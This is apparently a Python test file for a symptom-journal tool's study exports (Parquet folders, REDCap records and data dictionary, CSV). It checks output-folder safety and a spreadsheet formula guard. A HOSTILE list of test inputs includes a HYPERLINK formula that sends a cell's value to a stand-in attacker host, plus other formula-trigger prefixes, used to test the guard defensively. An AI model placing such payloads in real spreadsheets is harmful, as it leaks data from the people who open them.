"""The study-scale exports: a Parquet dataset (a folder, one sub-folder per participant), a
REDCap import file with its data dictionary, and the spreadsheet formula guard (CSV only).

Through the real command line (the ``cli`` fixture) and the library (``parquet_out``,
``redcap``, ``transfer.people_rows``). The Parquet files are read back with pyarrow and
DuckDB, both in the test extra; the README's DuckDB query runs here as written. The README's
pandas, Polars and Spark lines need libraries the tests do not install, and are not run.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import subprocess
import sys
from datetime import date, datetime, timezone
from pathlib import Path

import pytest

from pumpjournal import parquet_out, redcap, transfer
from pumpjournal import symptoms as cat
from pumpjournal.store import Journal
from pjtest import child_env, ok, refused, snapshot

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")

README = Path(__file__).resolve().parent.parent / "README.md"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+1 better", "-2", "@SUM(A1)",
           "'quoted start", "'=not a formula"]
ROWS = [  # one reading a line, as a study's import file has them
    {"patient": "p001", "date": "2025-03-01", "time": "08:00", "utc_offset": "+01:00",
     "pain": 3, "worst": 7, "least": 2, "average": 4, "sleep": 6.5, "mood": 5,
     "questions": ["Is it the pump?", "two\nlines"], "note": HOSTILE[0],
     "logged_at": "2025-03-01T08:01:00+01:00"},
    {"patient": "p001", "date": "2025-03-01", "time": "12:30", "utc_offset": "+01:00",
     "pain": 6, "symptoms": ["fever", "leg-numbness"], "worse": ["headache"],
     "temperature": "100.8F", "temperature_site": "not-sure", "contacted": True,
     "logged_at": "2025-03-01T12:31:00+01:00"},
    {"patient": "p001", "date": "2025-03-01", "pain": 2, "note": HOSTILE[1]},  # no time
    {"patient": "p001", "date": "2025-03-02", "time": "21:15", "utc_offset": "-05:00",
     "pain": 5, "boluses": 3, "contacted": False, "note": HOSTILE[4],
     "logged_at": "2025-03-04T09:00:00-05:00"},  # filled in later
    {"patient": "p002", "date": "2025-03-01", "pain": 0, "worst": 1, "least": 0,
     "average": 0, "note": HOSTILE[2], "temperature": "37.2", "temperature_site": "mouth"},
    {"patient": "p002", "date": "2025-03-05", "time": "07:05", "pain": 10, "note": HOSTILE[3],
     "symptoms": ["headache"]},
    {"patient": "007", "date": "2025-03-02", "pain": 4, "note": HOSTILE[5]},
]
SQL_BLOCKS = re.findall(r"^```sql\n(.*?)^```", README.read_text(encoding="utf-8"), re.S | re.M)


@pytest.fixture
def study(cli, tmp_path):
    """A journal holding ROWS (three people, several readings a day, awkward text)."""
    source = tmp_path / "rows.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in ROWS), encoding="utf-8")
    ok(cli("import", str(source)))
    return tmp_path


def jsonl_rows(cli, *args: str) -> list[dict]:
    return [json.loads(line) for line in ok(cli("export", "--format", "jsonl",
                                                *args)).stdout.splitlines()]


def read_dataset(folder: Path) -> dict[str, list[dict]]:
    """Each participant's rows as pyarrow reads its file."""
    found = {}
    for sub in sorted(folder.iterdir()):
        files = sorted(sub.iterdir())
        assert [f.name for f in files] == ["part-0.parquet"]
        found[sub.name] = pq.read_table(files[0]).to_pylist()
    return found


def utc(stamp: str | None):
    return None if stamp is None else datetime.fromisoformat(stamp).astimezone(timezone.utc)


# The formula guard: CSV only -------------------------------------------------------------


def exported_notes(cli, study, fmt: str, *options: str) -> list[str]:
    """The notes of an export as a reader of that format gets them, oldest first."""
    if fmt == "parquet":
        ok(cli("export", "--format", fmt, "--output", str(study / "pq"), *options))
        return [r["note"] for rows in read_dataset(study / "pq").values() for r in rows
                if r["note"]]
    text = ok(cli("export", "--format", fmt, *options)).stdout
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
    elif fmt == "json":
        rows = json.loads(text)
    else:
        rows = [json.loads(line) for line in text.splitlines()]
    return [r["note"] for r in rows if r["note"]]


@pytest.mark.parametrize("fmt, options, guarded", [
    ("csv", [], True), ("csv", ["--no-formula-guard"], False), ("jsonl", [], False),
    ("json", [], False), ("parquet", [], False)])
def test_only_csv_carries_the_spreadsheet_formula_guard(cli, study, fmt, options, guarded):
    notes = exported_notes(cli, study, fmt, *options)
    stored = [r["note"] for r in sorted(ROWS, key=lambda r: (r["patient"], r["date"],
                                                              r.get("time") or ""))
              if r.get("note")]
    assert notes == (["'" + n for n in stored] if guarded else stored)


def test_an_unguarded_csv_imports_back_but_a_note_opening_like_the_guard_loses_its_quote(
        cli, study, tmp_path):
    """Import takes a leading ' off a cell that begins like a guarded formula ('= '+ '- '@
    ''), so an unguarded CSV comes back whole except a note written as "'=not a formula",
    which comes back as "=not a formula" (the README says so)."""
    text = ok(cli("export", "--format", "csv", "--no-formula-guard")).stdout
    other = tmp_path / "other" / "journal.json"
    ok(cli("--journal", str(other), "import", "-", "--format", "csv", input=text))
    back = exported_notes(cli, study, "jsonl", "--journal", str(other))
    assert back == [n[1:] if n == "'=not a formula" else n
                    for n in exported_notes(cli, study, "jsonl")]


@pytest.mark.parametrize("fmt", ["jsonl", "json", "fhir", "parquet", "redcap"])
def test_no_formula_guard_is_a_csv_option(cli, study, fmt):
    line = refused(cli("export", "--format", fmt, "--output", str(study / "x"),
                       "--no-formula-guard"))
    assert "--no-formula-guard goes with --format csv" in line


# Parquet ---------------------------------------------------------------------------------


def test_parquet_is_a_folder_per_participant_with_the_csv_columns_typed(cli, study):
    target = study / "exports" / "study"
    target.parent.mkdir()
    result = ok(cli("export", "--format", "parquet", "--output", str(target)))
    assert result.stdout == ""
    assert "Exported 7 readings of 3 participants" in result.stderr
    found = read_dataset(target)
    assert list(found) == ["participant=007", "participant=p001", "participant=p002"]
    schema = pq.read_schema(target / "participant=p001" / "part-0.parquet")
    # the CSV export's columns, less patient: the folder holds the participant
    assert schema.names == [c for c in transfer.COLUMNS if c != "patient"]
    types = {f.name: str(f.type) for f in schema}
    assert types["date"] == "date32[day]" and types["time"] == "string"
    assert {types[k] for k in ("pain", "worst", "least", "average", "mood")} == {"int8"}
    assert types["boluses"] == "int16" and types["sleep"] == "double"
    assert types["symptoms"] == types["worse"] == types["questions"] == "list<element: string>"
    assert types["contacted"] == "bool"
    assert types["logged_at"] == types["updated_at"] == "timestamp[us, tz=UTC]"
    # every value is the JSONL export's, typed: dates as dates, stamps in UTC
    for row in jsonl_rows(cli):
        stored = found[f"participant={row.pop('patient')}"].pop(0)
        assert stored["date"] == date.fromisoformat(row.pop("date"))
        assert stored["logged_at"] == utc(row.pop("logged_at"))
        assert stored["updated_at"] == utc(row.pop("updated_at"))
        assert {k: stored[k] for k in row} == row
    assert not any(found.values())


def test_parquet_files_have_one_schema_even_for_columns_a_participant_never_filled(cli, study):
    ok(cli("export", "--format", "parquet", "--output", str(study / "out")))
    schemas = {pq.read_schema(f).remove_metadata() for f in (study / "out").glob("*/*.parquet")}
    assert len(schemas) == 1  # 007 has no temperature, no symptoms, no stamps: same types
    only = pq.read_table(study / "out" / "participant=007" / "part-0.parquet").to_pylist()
    assert only[0]["symptoms"] == [] and only[0]["temperature_c"] is None
    assert only[0]["time"] is None  # a reading whose time was not recorded


def test_parquet_keeps_times_as_text_and_stamps_as_utc_microseconds(cli, study):
    ok(cli("export", "--format", "parquet", "--output", str(study / "out"), "--patient",
           "p001"))
    rows = read_dataset(study / "out")["participant=p001"]
    assert [r["time"] for r in rows] == [None, "08:00", "12:30", "21:15"]
    assert rows[1]["logged_at"] == datetime(2025, 3, 1, 7, 1, tzinfo=timezone.utc)
    assert rows[3]["logged_at"] == datetime(2025, 3, 4, 14, 0, tzinfo=timezone.utc)
    assert rows[2]["worse"] == ["headache"]
    assert {"fever", "leg-numbness"} <= set(rows[2]["symptoms"])
    assert rows[1]["questions"] == ["Is it the pump?", "two\nlines"]


def test_parquet_folders_are_0700_and_files_0600(cli, study, open_umask):
    ok(cli("export", "--format", "parquet", "--output", str(study / "out")))
    assert (study / "out").stat().st_mode & 0o777 == 0o700
    for path in (study / "out").rglob("*"):
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


def test_duckdb_reads_the_dataset_with_its_types(cli, study):
    duckdb = pytest.importorskip("duckdb")
    ok(cli("export", "--format", "parquet", "--output", str(study / "out")))
    con = duckdb.connect()
    glob = str(study / "out" / "*" / "*.parquet")
    types = {name: kind for name, kind, *_ in con.execute(
        f"DESCRIBE SELECT * FROM read_parquet('{glob}', hive_partitioning = true)").fetchall()}
    assert types["participant"] == "VARCHAR" and types["date"] == "DATE"
    assert types["pain"] == "TINYINT" and types["symptoms"] == "VARCHAR[]"
    assert types["logged_at"] == "TIMESTAMP WITH TIME ZONE"
    fevers = con.execute(f"SELECT participant, date, time FROM read_parquet('{glob}', "
                         "hive_partitioning = true) WHERE list_contains(symptoms, 'fever')"
                         ).fetchall()
    assert fevers == [("p001", date(2025, 3, 1), "12:30")]
    # an id that looks like a number keeps its leading zeros when typed as text
    ids = con.execute(f"SELECT DISTINCT participant FROM read_parquet('{glob}', hive_types = "
                      "{'participant': VARCHAR}) ORDER BY 1").fetchall()
    assert ids == [("007",), ("p001",), ("p002",)]


def test_the_readme_duckdb_cohort_query_gives_the_cohort_commands_figures(cli, study,
                                                                          monkeypatch):
    duckdb = pytest.importorskip("duckdb")
    query = next(block for block in SQL_BLOCKS if "exports/study" in block)
    (study / "exports").mkdir()
    monkeypatch.chdir(study)
    ok(cli("export", "--format", "parquet", "--output", "exports/study"))
    con = duckdb.connect()
    got = con.execute(query)
    names = [d[0] for d in got.description]
    rows = [dict(zip(names, r)) for r in got.fetchall()]
    expected = json.loads(ok(cli("cohort", "--json")).stdout)
    assert [r["participant"] for r in rows] == [c["patient"] for c in expected]
    for mine, theirs in zip(rows, expected):
        for key in ("days_logged", "readings", "readings_per_day"):
            assert mine[key] == theirs[key], key
        assert (mine["first_day"].isoformat(), mine["last_day"].isoformat()) == (theirs["first"],
                                                                        theirs["last"])
        assert abs(mine["mean_pain"] - theirs["mean_pain"]) <= 0.01  # each rounds to 2 places


def test_an_export_with_no_rows_is_an_empty_folder(cli, study):
    result = ok(cli("export", "--format", "parquet", "--output", str(study / "out"),
                    "--since", "2030-01-01"))
    assert "Exported 0 readings of 0 participants" in result.stderr
    assert list((study / "out").iterdir()) == []


# The output folder: a table of what is there and what happens -----------------------------


def _export(study: Path, name: str = "out", **files: str) -> Path:
    folder = study / name
    folder.mkdir()
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return folder


def snapshot_tree(folder: Path) -> dict:
    if folder.is_symlink() or not folder.is_dir():
        return {"": folder.read_bytes() if folder.is_file() else "link"}
    return {str(p.relative_to(folder)): p.read_bytes() if p.is_file() else None
            for p in sorted(folder.rglob("*"))}


REFUSALS = [  # (what is at the output, options, words in the one-line error)
    ("a folder holding other files", lambda s: _export(s, **{"notes.txt": "mine"}), ["--force"],
     "not a pumpjournal Parquet export"),
    ("a folder with a stray file beside the participants",
     lambda s: _export(s, **{"participant=p1/part-0.parquet": "x", "README": "x"}),
     ["--force"], "not a pumpjournal Parquet export"),
    ("an earlier export, without --force",
     lambda s: _export(s, **{"participant=p1/part-0.parquet": "x"}), [],
     "use --force to replace it"),
    ("a file", lambda s: (s / "out").write_text("keep") and s / "out", ["--force"],
     "is a file"),
    ("a symbolic link to an export",
     lambda s: (s / "out").symlink_to(_export(s, "real", **{"participant=p1/part-0.parquet":
                                                             "x"})) or s / "out",
     ["--force"], "symbolic link"),
    ("a missing parent folder", lambda s: s / "nowhere" / "out", [], "does not exist"),
]


@pytest.mark.parametrize("what, make, options, words", REFUSALS, ids=[r[0] for r in REFUSALS])
def test_the_parquet_output_folder_is_refused_with_nothing_written(cli, study, what, make,
                                                                   options, words):
    target = make(study)
    before = snapshot_tree(target) if os.path.lexists(target) else None
    line = refused(cli("export", "--format", "parquet", "--output", str(target), *options))
    assert words in line and line.endswith("Nothing was written."), line
    assert (snapshot_tree(target) if os.path.lexists(target) else None) == before
    assert not [p for p in study.iterdir() if p.name.startswith(".")]


def test_the_journals_folder_and_its_backups_are_never_an_export_folder(cli, study, journal):
    ok(cli("backup"))
    for target in (journal.parent, journal.parent / "backups", journal):
        before = snapshot_tree(target)
        refused(cli("export", "--format", "parquet", "--output", str(target), "--force"))
        assert snapshot_tree(target) == before


@pytest.mark.parametrize("swap", [True, False], ids=["one step", "two renames"])
def test_force_replaces_an_earlier_export_whole(cli, study, monkeypatch, swap):
    if not swap:  # a system without an atomic swap of two folders
        monkeypatch.setattr(parquet_out, "_exchange", lambda a, b: False)
    target = study / "out"
    ok(cli("export", "--format", "parquet", "--output", str(target)))
    assert len(list(target.iterdir())) == 3
    ok(cli("export", "--format", "parquet", "--output", str(target), "--patient", "p002",
           "--force"))
    assert [p.name for p in target.iterdir()] == ["participant=p002"]  # the others went
    assert not [p for p in study.iterdir() if p.name.startswith(".")]


def test_an_empty_folder_and_a_trailing_slash_are_accepted(cli, study):
    (study / "out").mkdir()
    ok(cli("export", "--format", "parquet", "--output", str(study / "out") + "/"))
    assert len(list((study / "out").iterdir())) == 3


def test_parquet_needs_a_folder_not_stdout(cli, study):
    line = refused(cli("export", "--format", "parquet"))
    assert "--output DIR" in line


@pytest.mark.parametrize("replace", [False, True], ids=["new folder", "--force"])
def test_a_disk_that_fails_part_way_leaves_the_folder_as_it_was(cli, study, monkeypatch,
                                                                replace):
    target = study / "out"
    if replace:
        ok(cli("export", "--format", "parquet", "--output", str(target), "--patient", "p002"))
    before = snapshot_tree(target) if target.exists() else None
    real = parquet_out._table
    calls = []

    def full_disk(*args):
        calls.append(1)
        if len(calls) == 2:  # the second participant
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args)

    monkeypatch.setattr(parquet_out, "_table", full_disk)
    line = refused(cli("export", "--format", "parquet", "--output", str(target),
                       *(["--force"] if replace else [])), code=1)
    assert "the disk is full" in line and line.endswith("Nothing was written.")
    assert (snapshot_tree(target) if target.exists() else None) == before
    assert [p.name for p in study.iterdir() if p.name.startswith(".")] == []


def test_a_missing_pyarrow_is_exit_2_with_the_install_command(cli, study, monkeypatch, journal):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow raises ImportError
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    before = snapshot(journal)
    line = refused(cli("export", "--format", "parquet", "--output", str(study / "out")),
                   journal=journal, before=before)
    assert "install it with: pip install 'pumpjournal[parquet]'" in line
    assert not (study / "out").exists()


def test_daily_commands_never_import_pyarrow(journal):
    """`log` starts fast: pyarrow (and the export modules) load only for the export."""
    done = subprocess.run([sys.executable, "-X", "importtime", "-m", "pumpjournal", "log",
                           "--pain", "4"], env=child_env(journal), capture_output=True,
                          text=True, stdin=subprocess.DEVNULL, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    imported = {line.split("|")[-1].strip() for line in done.stderr.splitlines()
                if line.startswith("import time:")}
    assert "pumpjournal.store" in imported  # the listing is real
    assert not {"pyarrow", "duckdb", "pumpjournal.parquet_out", "pumpjournal.redcap"} & imported


def test_write_dataset_takes_any_iterable_of_participants_in_bounded_batches(tmp_path,
                                                                             monkeypatch):
    """The library entry point: (participant, rows) pairs from anywhere (a folder of
    journals, one at a time); a participant's rows go out BATCH at a time, each batch one
    row group, and a participant with no rows gets no folder."""
    monkeypatch.setattr(parquet_out, "BATCH", 2)
    consumed = []

    def rows(person: str, n: int):
        for k in range(n):
            consumed.append(person)
            yield {**dict.fromkeys(transfer.COLUMNS), "patient": person, "date": "2025-03-01",
                   "time": f"0{k}:00", "pain": k, "symptoms": [], "worse": [], "questions": []}

    people = iter([("a", rows("a", 5)), ("b", rows("b", 0)), ("c", rows("c", 1))])
    done = parquet_out.write_dataset(tmp_path / "out", people)
    assert done == {"readings": 6, "participants": 2}
    assert consumed == ["a"] * 5 + ["c"]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["participant=a",
                                                                    "participant=c"]
    file = pq.ParquetFile(tmp_path / "out" / "participant=a" / "part-0.parquet")
    assert [file.metadata.row_group(i).num_rows for i in range(file.num_row_groups)] == [2, 2, 1]
    assert file.read().column("pain").to_pylist() == [0, 1, 2, 3, 4]


def test_people_rows_gives_each_participants_rows_in_export_order(cli, study, journal):
    view = Journal(journal).read()
    people = [(p, list(rows)) for p, rows in transfer.people_rows(view)]
    assert [p for p, _ in people] == ["007", "p001", "p002"]
    flat = [row for _, rows in people for row in rows]
    assert flat == jsonl_rows(cli)
    with pytest.raises(transfer.InputError):
        transfer.people_rows(view, "nobody")
    for fmt in ("parquet", "redcap"):  # not a stream: the library says what to call
        with pytest.raises(transfer.InputError, match="people_rows"):
            transfer.export(view, io.StringIO(), fmt)


# REDCap ----------------------------------------------------------------------------------


def redcap_export(cli, study, *options: str) -> tuple[list[dict], list[dict], list[str]]:
    """(records, dictionary rows, the records file's columns) of a REDCap export."""
    ok(cli("export", "--format", "redcap", "--output", str(study / "records.csv"),
           "--data-dictionary", str(study / "dictionary.csv"), *options))
    with open(study / "records.csv", newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        records = list(reader)
        names = list(reader.fieldnames)
    with open(study / "dictionary.csv", newline="", encoding="utf-8") as handle:
        dictionary = list(csv.DictReader(handle))
    return records, dictionary, names


def choices(field: dict) -> list[tuple[str, str]]:
    text = field["Choices, Calculations, OR Slider Labels"]
    return [tuple(part.strip() for part in choice.split(",", 1)) for choice in text.split("|")]


def test_the_redcap_dictionary_has_redcaps_columns_and_field_rules(cli, study):
    _, dictionary, _ = redcap_export(cli, study)
    with open(study / "dictionary.csv", newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header == ["Variable / Field Name", "Form Name", "Section Header", "Field Type",
                      "Field Label", "Choices, Calculations, OR Slider Labels", "Field Note",
                      "Text Validation Type OR Show Slider Number", "Text Validation Min",
                      "Text Validation Max", "Identifier?",
                      "Branching Logic (Show field only if...)", "Required Field?",
                      "Custom Alignment", "Question Number (surveys only)",
                      "Matrix Group Name", "Matrix Ranking?", "Field Annotation"]
    first = dictionary[0]
    assert (first["Variable / Field Name"], first["Form Name"]) == ("record_id", "participant")
    assert {f["Form Name"] for f in dictionary[1:]} == {"daily_reading"}
    names = [f["Variable / Field Name"] for f in dictionary]
    assert len(set(names)) == len(names)
    for field in dictionary:
        name = field["Variable / Field Name"]
        assert re.fullmatch(r"[a-z][a-z0-9_]*", name) and len(name) <= 100, name
        assert field["Field Type"] in {"text", "notes", "checkbox", "dropdown", "yesno"}
        assert field["Text Validation Type OR Show Slider Number"] in {
            "", "date_ymd", "time", "integer", "number"}
        if field["Field Type"] in ("checkbox", "dropdown"):
            codes = [c for c, _ in choices(field)]
            assert all(re.fullmatch(r"[a-z0-9_]+", c) for c in codes), codes
            assert len(set(codes)) == len(codes)
            assert all(label for _, label in choices(field))
        else:
            assert field["Choices, Calculations, OR Slider Labels"] == ""
    symptoms = next(f for f in dictionary if f["Variable / Field Name"] == "symptoms")
    assert [c for c, _ in choices(symptoms)] == [s.id.replace("-", "_") for s in cat.SYMPTOMS]


def expand(dictionary: list[dict]) -> list[str]:
    """The records file's columns a dictionary defines, in order."""
    found = ["record_id", "redcap_repeat_instrument", "redcap_repeat_instance",
             "participant_complete"]
    for field in dictionary[1:]:
        name = field["Variable / Field Name"]
        if field["Field Type"] == "checkbox":
            found += [f"{name}___{code}" for code, _ in choices(field)]
        else:
            found.append(name)
    return found + ["daily_reading_complete"]


def test_every_redcap_column_is_defined_in_the_dictionary_in_order(cli, study):
    records, dictionary, names = redcap_export(cli, study)
    assert names[:3] == ["record_id", "redcap_repeat_instrument", "redcap_repeat_instance"]
    assert names == expand(dictionary)
    assert all(len(n) <= 100 for n in names)


def check_value(field: dict, value: str) -> None:
    """A cell's raw value fits its field's type and range (empty: no value)."""
    kind, valid = field["Field Type"], field["Text Validation Type OR Show Slider Number"]
    low, high = field["Text Validation Min"], field["Text Validation Max"]
    if value == "":
        return
    if valid == "date_ymd":
        date.fromisoformat(value)
    elif valid == "time":
        assert re.fullmatch(r"([01][0-9]|2[0-3]):[0-5][0-9]", value), value
    elif valid in ("integer", "number"):
        number = int(value) if valid == "integer" else float(value)
        assert float(low or "-inf") <= number <= float(high or "inf"), (field, value)
    elif kind == "yesno":
        assert value in ("0", "1")
    elif kind == "dropdown":
        assert value in [c for c, _ in choices(field)]


def test_redcap_values_are_raw_codes_that_fit_their_fields(cli, study):
    records, dictionary, _ = redcap_export(cli, study)
    fields = {f["Variable / Field Name"]: f for f in dictionary}
    for record in records:
        repeating = record["redcap_repeat_instrument"] == "daily_reading"
        for column, value in record.items():
            name, _, choice = column.partition("___")
            if choice:  # a checkbox: 0/1 on a reading, empty on the participant row
                assert value in (("0", "1") if repeating else ("",)), (column, value)
            elif name in fields and name != "record_id":
                assert repeating or value == "", (column, value)
                check_value(fields[name], value)
        assert record["daily_reading_complete"] == ("2" if repeating else "")
        assert record["participant_complete"] == ("" if repeating else "2")


def test_redcap_readings_are_instances_numbered_per_record_in_time_order(cli, study):
    records, _, _ = redcap_export(cli, study)
    layout = [(r["record_id"], r["redcap_repeat_instrument"], r["redcap_repeat_instance"],
               r["reading_date"], r["reading_time"]) for r in records]
    assert layout == [
        ("007", "", "", "", ""), ("007", "daily_reading", "1", "2025-03-02", ""),
        ("p001", "", "", "", ""), ("p001", "daily_reading", "1", "2025-03-01", ""),
        ("p001", "daily_reading", "2", "2025-03-01", "08:00"),
        ("p001", "daily_reading", "3", "2025-03-01", "12:30"),
        ("p001", "daily_reading", "4", "2025-03-02", "21:15"),
        ("p002", "", "", "", ""), ("p002", "daily_reading", "1", "2025-03-01", ""),
        ("p002", "daily_reading", "2", "2025-03-05", "07:05")]
    # the day's own values repeat on each of its readings
    day = [r for r in records if r["record_id"] == "p001" and r["reading_date"] == "2025-03-01"]
    assert {(r["pain_worst"], r["sleep"], r["questions"]) for r in day} == {
        ("7", "6.5", "Is it the pump?\ntwo\nlines")}


def decode(records: list[dict], dictionary: list[dict]) -> list[dict]:
    """A REDCap import file read back with nothing but its dictionary: each reading as the
    JSONL export's row (checkbox codes to checklist ids by the choice order)."""
    catalogue = [s.id for s in cat.SYMPTOMS]
    fields = {f["Variable / Field Name"]: f for f in dictionary}
    columns = dict(zip(["reading_date", "reading_time", "utc_offset", "pain_now", "pain_worst",
                        "pain_least", "pain_average", "symptoms", "worse", "temperature",
                        "temperature_c", "temperature_site", "boluses", "sleep", "mood",
                        "impression", "note", "questions", "contacted", "logged_at", "updated_at"],
                       transfer.COLUMNS[1:]))
    rows = []
    for record in records:
        if record["redcap_repeat_instrument"] != "daily_reading":
            continue
        row = {"patient": record["record_id"]}
        for name, key in columns.items():
            field = fields[name]
            kind = field["Field Type"]
            valid = field["Text Validation Type OR Show Slider Number"]
            if kind == "checkbox":
                codes = [c for c, _ in choices(field)]
                value = [catalogue[i] for i, c in enumerate(codes)
                         if record[f"{name}___{c}"] == "1"]
            else:
                value = record[name] or None
                if value is None:
                    value = [] if key == "questions" else None
                elif valid == "integer":
                    value = int(value)
                elif valid == "number":
                    value = float(value)
                elif kind == "yesno":
                    value = value == "1"
                elif kind == "dropdown":
                    value = value.replace("_", "-")
                elif key == "questions":
                    value = value.split("\n")
            row[key] = value
        rows.append(row)
    return rows


def test_a_redcap_export_decoded_with_its_dictionary_is_the_journals_readings(cli, study):
    records, dictionary, _ = redcap_export(cli, study)
    expected = jsonl_rows(cli)
    for row in expected:  # REDCap keeps questions one a line
        row["questions"] = "\n".join(row["questions"]).split("\n") if row["questions"] else []
    assert decode(records, dictionary) == expected


def test_redcap_text_is_written_exactly_as_stored(cli, study):
    records, _, _ = redcap_export(cli, study)
    notes = [r["note"] for r in records if r["note"]]
    assert sorted(notes) == sorted(HOSTILE)  # no formula guard: REDCap would keep the '


def test_redcap_exports_a_window_and_one_person_and_goes_to_stdout(cli, study):
    text = ok(cli("export", "--format", "redcap", "--patient", "p001", "--since",
                  "2025-03-02")).stdout
    records = list(csv.DictReader(io.StringIO(text)))
    assert [(r["record_id"], r["redcap_repeat_instance"], r["reading_date"])
            for r in records] == [("p001", "", ""), ("p001", "1", "2025-03-02")]


def test_the_library_writes_the_same_redcap_file(cli, study, journal):
    view = Journal(journal).read()
    out = io.StringIO(newline="")
    assert redcap.write_records(out, transfer.people_rows(view)) == {"readings": 7,
                                                                     "participants": 3}
    assert out.getvalue() == ok(cli("export", "--format", "redcap")).stdout


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json", "fhir", "parquet"])
def test_a_data_dictionary_goes_with_the_redcap_format_only(cli, study, fmt):
    line = refused(cli("export", "--format", fmt, "--output", str(study / "x"),
                       "--data-dictionary", str(study / "d.csv")))
    assert "--data-dictionary goes with --format redcap" in line
    assert not (study / "d.csv").exists() and not (study / "x").exists()


def test_the_data_dictionary_follows_the_output_file_rules(cli, study, journal):
    target, dictionary = study / "records.csv", study / "dictionary.csv"
    dictionary.write_text("keep")
    line = refused(cli("export", "--format", "redcap", "--output", str(target),
                       "--data-dictionary", str(dictionary)))
    assert "--force" in line and dictionary.read_text() == "keep" and not target.exists()
    line = refused(cli("export", "--format", "redcap", "--output", str(target),
                       "--data-dictionary", str(target)))
    assert "the export file" in line and not target.exists()
    before = snapshot(journal)
    refused(cli("export", "--format", "redcap", "--output", str(target),
                "--data-dictionary", str(journal), "--force"), journal=journal, before=before)
    ok(cli("export", "--format", "redcap", "--output", str(target), "--data-dictionary",
           str(dictionary), "--force"))
    assert dictionary.read_text().startswith("Variable / Field Name,")
    assert dictionary.stat().st_mode & 0o777 == 0o600


def test_the_dictionary_is_written_beside_a_redcap_export_to_stdout(cli, study):
    result = ok(cli("export", "--format", "redcap", "--data-dictionary",
                    str(study / "d.csv")))
    assert result.stdout.startswith("record_id,redcap_repeat_instrument,")
    assert (study / "d.csv").read_text().startswith("Variable / Field Name,")


# A journal edited by hand ----------------------------------------------------------------


@pytest.mark.parametrize("fmt, edit, words", [
    ("redcap", {"symptoms": ["not-a-symptom"]}, "symptoms item 'not-a-symptom' that is not in "
                                                "the checklist"),
    ("parquet", {"pain": 300}, "pain value that does not fit the Parquet column (int8)"),
    ("parquet", {"boluses": 70000}, "boluses value that does not fit the Parquet column")])
def test_a_value_an_export_cannot_hold_is_named_with_nothing_written(cli, study, journal, fmt,
                                                                     edit, words):
    """Reading checks types, `doctor` checks values: a value edited into the journal by hand
    that the format has no room for stops the export, with the way to find it."""
    data = json.loads(journal.read_text())
    doc = next(iter(data["entries"].values()))
    doc["readings"][0].update(edit)
    journal.write_text(json.dumps(data))
    target = study / "out"
    line = refused(cli("export", "--format", fmt, "--output", str(target)))
    assert words in line and "pumpjournal doctor" in line, line
    assert line.endswith("Nothing was written.") and not target.exists()
    assert not [p for p in study.iterdir() if p.name.startswith(".")]
